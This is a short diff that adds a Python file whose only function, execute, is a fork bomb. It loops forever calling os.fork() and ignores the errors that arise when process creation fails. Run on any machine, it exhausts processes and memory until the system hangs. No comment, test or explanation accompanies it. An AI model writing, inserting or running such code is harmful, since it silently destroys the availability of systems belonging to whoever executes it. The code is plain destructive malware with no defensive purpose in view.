@@ -1,0 +1,9 @@
+import os
+
+
+def execute(given):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
